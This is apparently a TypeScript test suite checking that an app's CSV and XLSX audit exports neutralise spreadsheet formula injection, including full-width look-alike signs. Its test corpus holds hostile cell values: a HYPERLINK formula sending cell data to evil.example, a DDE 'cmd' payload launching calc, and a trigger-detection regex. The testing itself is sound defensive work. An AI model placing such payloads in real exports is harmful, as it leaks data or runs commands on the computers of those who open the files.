// A corpus of hostile cell values round-trips through the CSV and XLSX exports: every value that a spreadsheet
// would evaluate as a formula comes back prefixed with a single quote, and nothing else about any value changes.
import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { db } from "~/lib/db.server";
import { neutraliseFormula } from "~/lib/csv-safety";
import { AUDIT_COLUMNS, auditXlsxColumns } from "~/models/export-audit.server";
import { auditedTransaction, SYSTEM_CONTEXT } from "~/models/audit.server";
import { loader as csvLoader } from "~/routes/exports.audit[.]csv";
import { loader as xlsxLoader } from "~/routes/exports.audit[.]xlsx";
import { loader as ndjsonLoader } from "~/routes/exports.audit[.]ndjson";
import { loader as portfolioLoader } from "~/routes/exports.portfolio[.]xlsx";
import { createProject, createUser } from "../helpers/factories";
import { callLoader, readXlsx, sessionCookieFor } from "../helpers/history-fixtures";

const CORPUS = [
  "=1+1",
  '=HYPERLINK("http://evil.example/?q="&A1,"click")',
  "=cmd|' /C calc'!A0",
  "+SUM(A1:A3)",
  "-2+3",
  "@SUM(A1)",
  "\t=1+1",
  "\tleading tab",
  "\r=1+1",
  "\rleading carriage return",
  "\nleading line feed",
  "\r\nleading CRLF",
  "-",
  "=",
  "plain text",
  "a=b+c",
  "'already quoted",
  'He said "hello", then left',
  "comma, separated, values",
  "line one\nline two\r\nline three\rline four",
  "trailing newline\n",
  "Привет, мир! Ёлка",
  "Қазақстан: әғқңөұүһі ӘҒҚҢӨҰҮҺІ",
  "emoji 😀👍🏽🇰🇿",
  "_x000D_ looks like an OOXML escape",
  "control \u0001 and \u001f characters",
  "#not a comment",
  "x".repeat(10_240),
  `=${"y".repeat(10_000)}`,
];

/**
 * Look-alikes of the formula signs, and real signs behind characters a spreadsheet may skip: each must come out
 * with a leading quote, written out here rather than computed by the function under test.
 */
const LOOK_ALIKES = [
  "\uFF1D1+1", // ＝ full-width equals
  "\uFF0BSUM(A1:A3)", // ＋ full-width plus
  "\uFF0D2+3", // － full-width hyphen-minus
  "\uFF20SUM(A1)", // ＠ full-width commercial at
  "\uFE661+1", // ﹦ small equals
  "\uFE62SUM(A1)", // ﹢ small plus
  "\uFE632+3", // ﹣ small hyphen-minus
  "\uFE6BSUM(A1)", // ﹫ small commercial at
  "\u207A1", // ⁺ superscript plus
  "\u22122+3", // − minus sign
  " =1+1", // a space, trimmed on import
  "\u00A0=1+1", // no-break space
  "\u3000\uFF1D1+1", // ideographic space, then ＝
  "\u200B=1+1", // zero-width space
  "\uFEFF@SUM(A1)", // byte-order mark
  "\u0001=1+1", // a control character
];

const expected = (value: string) => neutraliseFormula(value);
// Every sign a spreadsheet may read as the start of a formula, behind anything it may skip.
const TRIGGERS =
  // eslint-disable-next-line no-control-regex
  /^[\t\r\n]|^[\s\u0000-\u001F\u200B\uFEFF]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20\uFE66\uFE62\uFE63\uFE6B\u207A\u2212]/;

let auditorCookie = "";

beforeAll(async () => {
  auditorCookie = await sessionCookieFor((await createUser({ role: "AUDITOR" })).email);
  // Ten projects of one ministry: eight get hostile names, two keep ordinary ones.
  const { implementingAgencyId, priorityAreaId } = await createProject();
  for (let i = 1; i < 10; i++) await createProject({ implementingAgencyId, priorityAreaId });
  const projects = await db.project.findMany({ orderBy: { code: "asc" }, take: 8 });
  // Each hostile value is the reason of a real audit event, written the way every change is written; the first
  // few are also the edited projects' new names, for the portfolio workbook.
  for (const [i, value] of [...CORPUS, ...LOOK_ALIKES].entries()) {
    const project = projects[i % projects.length];
    await auditedTransaction(SYSTEM_CONTEXT, async (tx, audit) => {
      const before = await tx.project.findUniqueOrThrow({ where: { id: project.id } });
      const after = await tx.project.update({
        where: { id: project.id },
        data: { ...(i < projects.length ? { name: value } : {}), version: { increment: 1 } },
      });
      await audit({
        action: "project.update",
        entityType: "Project",
        entityId: project.id,
        projectId: project.id,
        before,
        after,
        reason: value,
      });
    });
  }
  // About fifty audited writes: generous for a machine busy with other work.
}, 60_000);

describe("hostile cell corpus", () => {
  it("the corpus exercises every trigger character", () => {
    for (const trigger of ["=", "+", "-", "@", "\t", "\r", "\n"])
      expect(CORPUS.some((v) => v.startsWith(trigger))).toBe(true);
    expect(CORPUS.filter((v) => TRIGGERS.test(v)).length).toBeGreaterThan(10);
  });

  it("round-trips through CSV (RFC 4180, parsed by csv-parse) with formulas neutralised and nothing else changed", async () => {
    for (const bom of ["0", "1"]) {
      const response = await callLoader(csvLoader, `/exports/audit.csv?action=project.update&bom=${bom}`, {
        cookie: auditorCookie,
      });
      const records = parse(await response.text(), { bom: true }) as string[][];
      const header = records.find((r) => r[0] === "seq")!;
      const reasonAt = header.indexOf("reason");
      const rows = records.slice(records.indexOf(header) + 1);
      expect(rows.map((r) => r[reasonAt])).toEqual([...CORPUS, ...LOOK_ALIKES].map(expected));
      for (const row of rows) expect(row.every((cell) => !TRIGGERS.test(cell))).toBe(true);
    }
  });

  it("round-trips through the audit XLSX with formulas neutralised and nothing else changed", async () => {
    const response = await callLoader(xlsxLoader, "/exports/audit.xlsx?action=project.update", {
      cookie: auditorCookie,
    });
    const workbook = await readXlsx(response);
    const sheet = workbook.getWorksheet("events")!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    // Headed in the reader's language; the column is where the CSV has its `reason`.
    expect(header).toEqual(auditXlsxColumns("en").map((c) => c.heading));
    const reasonAt = AUDIT_COLUMNS.indexOf("reason") + 1;
    const reasons: string[] = [];
    sheet.eachRow((row, n) => {
      if (n === 1) return;
      const cell = row.getCell(reasonAt);
      expect(cell.type).toBe(3); // ValueType.String (read back from an inline string): never a formula cell
      reasons.push(String(cell.value));
      row.eachCell((c) => {
        expect(c.formula).toBeUndefined();
        if (typeof c.value === "string") expect(TRIGGERS.test(c.value), JSON.stringify(c.value)).toBe(false);
      });
    });
    expect(reasons).toEqual([...CORPUS, ...LOOK_ALIKES].map(expected));
  });

  it("neutralises full-width and other look-alike formula signs in CSV and XLSX", async () => {
    const quoted = LOOK_ALIKES.map((value) => `'${value}`);
    const csv = await callLoader(csvLoader, "/exports/audit.csv?action=project.update", { cookie: auditorCookie });
    const records = parse(await csv.text(), { bom: true }) as string[][];
    const reasonAt = records.find((r) => r[0] === "seq")?.indexOf("reason") ?? -1;
    expect(records.map((r) => r[reasonAt]).slice(-LOOK_ALIKES.length)).toEqual(quoted);

    const xlsx = await callLoader(xlsxLoader, "/exports/audit.xlsx?action=project.update", { cookie: auditorCookie });
    const sheet = (await readXlsx(xlsx)).getWorksheet("events");
    const column = AUDIT_COLUMNS.indexOf("reason") + 1;
    expect(sheet?.getRow(1).getCell(column).value).toBe(auditXlsxColumns("en")[column - 1].heading);
    const reasons: string[] = [];
    sheet?.eachRow((row, n) => {
      if (n > 1) reasons.push(String(row.getCell(column).value));
    });
    expect(reasons.slice(-LOOK_ALIKES.length)).toEqual(quoted);
  });

  it("leaves text alone when the look-alike is not first, or is only a dash", () => {
    for (const value of ["a\uFF1Db", "1\uFF0B1", "\u2013 an en dash", "\u2014 an em dash", "  indented", "\u00A0x"]) {
      expect(neutraliseFormula(value)).toBe(value);
    }
  });

  it("keeps NDJSON exact (JSON is not a spreadsheet: no quote is added)", async () => {
    const response = await callLoader(ndjsonLoader, "/exports/audit.ndjson?action=project.update", {
      cookie: auditorCookie,
    });
    const lines = (await response.text()).trimEnd().split("\n").slice(1);
    expect(lines.map((l) => (JSON.parse(l) as { reason: string }).reason)).toEqual([...CORPUS, ...LOOK_ALIKES]);
  });

  it("neutralises hostile project names in the portfolio workbook", async () => {
    const response = await callLoader(portfolioLoader, "/exports/portfolio.xlsx", { cookie: auditorCookie });
    const workbook = await readXlsx(response);
    const names: string[] = [];
    workbook.getWorksheet("projects")!.eachRow((row, n) => {
      if (n > 1) names.push(String(row.getCell(2).value));
    });
    const projects = await db.project.findMany({ orderBy: { code: "asc" } });
    expect(names).toEqual(projects.map((p) => expected(p.name)));
    expect(names.slice(0, 8)).toEqual(CORPUS.slice(0, 8).map(expected));
  });
});
